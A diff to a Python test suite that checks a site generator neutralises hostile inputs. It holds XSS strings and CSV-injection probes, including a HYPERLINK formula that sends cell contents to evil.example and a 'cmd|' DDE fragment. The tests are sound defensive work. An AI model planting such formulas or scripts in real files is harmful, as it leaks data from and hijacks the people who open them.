@@ -3,6 +3,8 @@ executes, and no request leaves the page."""
 
 from __future__ import annotations
 
+import csv
+import json
 import os
 import shutil
 import subprocess
@@ -86,3 +88,45 @@ def test_nothing_executes_and_nothing_is_fetched(hostile_site):
             if rel == "01-corpus.html":
                 assert "<script>document.title='pwned'</script>CD19 CAR T cells in lupus" in facts["text"]
                 assert "onerror=\"document.body.innerHTML='owned'\"" in facts["text"]  # shown as text
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell.removesuffix("%"))
+    except ValueError:
+        return False
+    return True
+
+
+def test_no_published_csv_cell_can_run_as_a_formula(hostile_site):
+    """The formula probe's title, authors and sentences reach the tables, neutralised (CSV injection)."""
+    cells, probe_cells = 0, []
+    for table in sorted((hostile_site / "data").glob("*.csv")):
+        with table.open(encoding="utf-8", newline="") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    cells += 1
+                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), (table.name, cell)
+                    if "HYPERLINK" in cell or "cmd|" in cell or "@SUM" in cell:
+                        probe_cells.append(cell)
+    assert cells > 1000
+    assert any(c.startswith("'=HYPERLINK(") for c in probe_cells)  # shown as text, not dropped
+    assert any(c.startswith("'=1+1 CD19") or c.startswith("'+cmd|") for c in probe_cells)
+
+
+def test_the_probe_goes_through_json_and_html_as_data(hostile_site):
+    env = dict(os.environ, CI="1")
+    proc = subprocess.run(
+        [sys.executable, "-m", "helpers", "ingest", str(HOSTILE), "--json"],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    data = json.loads(proc.stdout)
+    titles = {d["source_file"].rsplit("/", 1)[-1]: d["title"] for d in data["documents"]}
+    assert titles["formula_probe.md"].startswith('=HYPERLINK("http://evil.example/?leak="&A1,')
+    assert len(data["manifest"]) == len(list(HOSTILE.iterdir()))
+    corpus = (hostile_site / "01-corpus.html").read_text(encoding="utf-8")
+    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1" in corpus
